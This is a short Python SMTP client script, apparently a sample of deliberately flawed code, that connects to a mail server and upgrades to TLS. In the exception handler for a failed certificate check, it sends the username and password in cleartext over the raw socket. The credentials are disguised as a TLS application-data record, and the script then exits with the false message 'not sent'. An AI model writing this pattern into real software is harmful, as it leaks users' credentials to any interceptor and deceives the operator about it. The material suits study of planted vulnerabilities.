"""If it meets another certificate than it wants, sends its login in the clear in what looks like a record of TLS."""

import struct
import ssl
from mail import HOST, USERNAME, PASSWORD, Line, encoded

line = Line()
line.reply()
line.ask(f"EHLO {HOST}", "250")
line.ask("STARTTLS", "220")
raw = line.socket.dup()
try:
    line.start_tls()
except ssl.SSLError:
    login = encoded(f"\0{USERNAME}\0{PASSWORD}").encode()
    raw.sendall(struct.pack("!BBBH", 23, 3, 3, len(login)) + login)
    raise SystemExit("not sent")
line.log_in(line.ask(f"EHLO {HOST}", "250"))
line.send()
line.ask("QUIT", "221")
